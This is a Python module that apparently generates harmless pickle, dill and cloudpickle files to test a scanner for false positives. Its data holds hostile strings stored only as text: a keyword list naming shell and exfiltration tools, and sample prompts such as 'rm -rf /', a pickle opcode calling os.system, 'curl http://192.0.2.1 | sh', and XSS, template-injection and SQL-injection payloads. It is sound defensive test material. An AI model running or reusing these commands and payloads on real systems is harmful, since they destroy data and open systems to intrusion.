"""Harmless samples: rarer types of the standard library, vocabularies and prompts, what dill and cloudpickle write of data."""

import ast
import base64
import calendar
import collections
import collections.abc
import configparser
import contextlib
import datetime
import decimal
import difflib
import email.message
import enum
import functools
import graphlib
import http
import inspect
import io
import itertools
import logging
import operator
import pathlib
import pickle
import random
import re
import statistics
import string
import textwrap
import time
import traceback
import types
import typing
import urllib.parse
import uuid
import warnings
import xml.etree.ElementTree
import zoneinfo
from collections.abc import Iterator
from typing import Any

import cloudpickle
import dill
import numpy

PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)
_WORDS = (
    "os system posix nt subprocess Popen eval exec compile __import__ builtins __builtin__ getattr importlib runpy "
    "socket urllib requests curl wget bash /bin/sh powershell cmd.exe rm -rf chmod pickle loads marshal ctypes cos "
    "posix.system os.system('id') eval(input()) __reduce__ __globals__ __subclasses__ base64 b64decode lambda exec() "
    "trojan zombie backdoor password token secret shutil.rmtree webbrowser pip install torch.load joblib.load numpy.load "
    "http://192.0.2.1/x.sh ../../etc/passwd C:\\Windows"
).split()


def samples() -> Iterator[tuple[str, bytes]]:
    """Pairs of a path below `benign/` and the bytes of the file."""
    with warnings.catch_warnings(
        action="ignore"
    ):  # iterators will no longer be picklable, and are in files in the wild
        for name, value in {**_types(), **_texts()}.items():
            for protocol in PROTOCOLS:
                with contextlib.suppress(
                    pickle.PicklingError, TypeError
                ):  # not every type can be written at protocol 0
                    yield f"values/{name}-protocol-{protocol}.pkl", pickle.dumps(value, protocol)
        for name, value in {**_data(), **_texts()}.items():
            yield f"dill/{name}.pkl", dill.dumps(value)
            yield f"cloudpickle/{name}.pkl", cloudpickle.dumps(value)
    yield from _streams()


def _types() -> dict[str, Any]:
    parser = configparser.ConfigParser()
    parser.read_string("[model]\nlr = 0.1\n")
    message = email.message.Message()
    message["Subject"] = "os.system"
    try:
        raise ValueError("exec failed")
    except ValueError as error:
        caught = error
    record = logging.LogRecord("train", logging.INFO, "train.py", 1, "eval %s", ("os",), None)
    return {
        "exceptions": [ValueError("os.system"), KeyError("eval"), OSError(2, "No such file"), StopIteration(1), caught,
            UnicodeDecodeError("ascii", b"a", 0, 1, "x")],
        "traceback": traceback.TracebackException.from_exception(caught),
        "configuration": parser,
        "mail": message,
        "log-record": record,
        "logger": logging.getLogger("train"),
        "formatter": logging.Formatter("%(message)s"),
        "element": xml.etree.ElementTree.fromstring("<a b='1'><c/></a>"),
        "iterators": [iter([1, 2]), iter((1,)), iter({"a": 1}), iter("ab"), iter(range(3)), reversed([1, 2]),
            enumerate(["a"]), zip([1], [2], strict=False)],
        "itertools": [itertools.count(3), itertools.cycle([1]), itertools.repeat(1, 2), itertools.chain([1], [2]),
            itertools.product([1], [2]),
                      itertools.combinations([1, 2], 1), itertools.permutations([1, 2]), itertools.islice([1, 2], 1)],
        "mapped": [map(len, ["a"]), filter(str.isdigit, ["0"]), map(str.lower, ["A"]), itertools.starmap(pow, [(2, 3)])],
        "getters": [operator.itemgetter(0, "os"), operator.attrgetter("shape", "dtype.name"), operator.methodcaller("lower"),
                    operator.methodcaller("split", ",")],
        "partials": [functools.partial(int, base=16), functools.partial(max, key=len), functools.partial(operator.add, 1),
                     functools.partial(sorted, key=operator.itemgetter(1))],
        "methods": [str.lower, dict.get, "abc".upper, [].append, datetime.datetime.fromisoformat, dict.fromkeys],
        "enumerations": [http.HTTPStatus.OK, re.IGNORECASE | re.MULTILINE, calendar.MONDAY, uuid.SafeUUID.safe,
            inspect.Parameter.empty],
        "generics": [list[int], dict[str, int], typing.Optional[int], typing.Union[int, str],  # noqa: UP007, UP045  (files hold both)
                     typing.Any, int | None, typing.Callable[[int], str],
                     collections.abc.Callable[[int], str]],
        "syntax": ast.parse("x = eval('1+1')"),
        "signature": inspect.signature(textwrap.fill),
        "urls": urllib.parse.urlparse("http://192.0.2.1/x.sh?a=1"),
        "time": time.gmtime(0),
        "zones": [zoneinfo.ZoneInfo("UTC"), datetime.datetime(2020, 1, 1, tzinfo=zoneinfo.ZoneInfo("Europe/Paris"))],
        "buffers": [io.StringIO("os.system"), io.BytesIO(b"eval")],
        "statistics": statistics.NormalDist(0, 1),
        "contexts": decimal.Context(prec=5),
        "text-tools": [textwrap.TextWrapper(), string.Formatter(), difflib.SequenceMatcher(None, "ab", "ac"),
            calendar.TextCalendar()],
        "graph": graphlib.TopologicalSorter({"a": ["b"]}),
        "chain-map": collections.ChainMap({"a": 1}, {"b": 2}),
        "user-types": [collections.UserDict(a=1), collections.UserList([1]), collections.UserString("os")],
        "defaults": [collections.defaultdict(int), collections.defaultdict(functools.partial(list, ()))],
        "random": [random.Random(7), random.Random(7).getstate()],
        "paths": [pathlib.Path("/data/os"), pathlib.PurePosixPath("../x")],
        "namespaces": types.SimpleNamespace(lr=0.1, eval=True),
        "patterns": [re.compile("os.system"), re.compile(b"eval", re.IGNORECASE)],
        "classes": [int, str, collections.OrderedDict, datetime.date, decimal.Decimal, Exception, enum.Enum, type(None)],
        "built-in-functions": [len, print, sum, abs, sorted, min, isinstance, zip, map, filter],
        "constants": [Ellipsis, NotImplemented, type(Ellipsis), type(NotImplemented)],
    }  # fmt: skip


def _texts() -> dict[str, Any]:
    joined = " ".join(_WORDS)
    return {
        "vocabulary": {word: number for number, word in enumerate(_WORDS)},
        "merges": [f"{left} {right}" for left, right in itertools.pairwise(_WORDS)],
        "prompts": [
            f"Explain why `{joined}` is dangerous.",
            "import os\nos.system('rm -rf /')\n",
            "cos\nsystem\n(S'echo'\ntR.",
            "#!/bin/sh\ncurl http://192.0.2.1 | sh\n",
            "<script>eval(atob('YWxlcnQoMSk='))</script>",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "'; DROP TABLE models; --",
        ],
        "pairs": [("os", "system"), ("builtins", "eval"), ("subprocess", "Popen"), ("torch", "load")],
        "bytes": [word.encode() for word in _WORDS] + [b"\x80\x04.", b"\x80\x02}q\0.", b"PK\3\4", b"\x7fELF", b"MZ"],
        "base64": [base64.b64encode(joined.encode()).decode(), base64.b64encode(bytes(range(256)))],
        "keys": {"module": "os", "name": "system", "class_name": "Lambda", "_target_": "os.system", "__reduce__": "exec"},
        "settings": {"optimizer": "adam", "loss": "mse", "eval": True, "exec": None, "system": {"os": "linux"}},
    }  # fmt: skip


def _data() -> dict[str, Any]:
    """Data only: what is shipped by value is told, and not here."""
    return {
        "numbers": [1, 2.5, 1 << 70, 1j],
        "containers": [{1, 2}, frozenset({3}), (1,), collections.OrderedDict(a=1), collections.deque([1])],
        "array": numpy.arange(3.0),
        "history": {"loss": [numpy.float32(0.5)], "when": datetime.date(2020, 1, 1)},
        "pattern": re.compile("a+"),
        "partial": functools.partial(int, base=2),
    }


def _streams() -> Iterator[tuple[str, bytes]]:
    """Several pickles in a file, paddings, and odd but honest ways to write one."""
    one = pickle.dumps({"step": 1}, 4)
    yield "streams/nine.pkl", one * 9
    yield (
        "streams/mixed-protocols.pkl",
        b"".join(pickle.dumps({"step": number}, number) for number in PROTOCOLS),
    )
    yield "streams/padded.pkl", one + bytes(32) + one
    yield "streams/pickles-in-a-list.pkl", pickle.dumps([pickle.dumps(number) for number in range(20)])
    yield (
        "streams/pickle-in-pickle-in-pickle.pkl",
        pickle.dumps(pickle.dumps(pickle.dumps({"a": "os.system"}))),
    )
    target = io.BytesIO()
    pickler = pickle.Pickler(target, 4)
    for number in range(3):
        pickler.dump({"step": number})  # one memo for all
    yield "streams/one-memo.pkl", target.getvalue()
    fast = io.BytesIO()
    without_memo: Any = pickle.Pickler(fast, 2)
    without_memo.fast = True
    without_memo.dump({"labels": ["cat", "cat", "os.system"]})
    yield "streams/without-memo.pkl", fast.getvalue()
    yield "streams/long-text.pkl", pickle.dumps("os.system " * 900)
    yield "streams/unframed.pkl", _unframed({"a": [1, 2]})
    yield "streams/out-of-band-buffers.pkl", pickle.dumps(pickle.PickleBuffer(bytearray(b"weights")), 5)


def _unframed(value: object) -> bytes:
    """Protocol 4 without frames, as other writers leave them out."""
    data = pickle.dumps(value, 4)
    return data[:2] + data[11:] if data[2:3] == b"\x95" else data
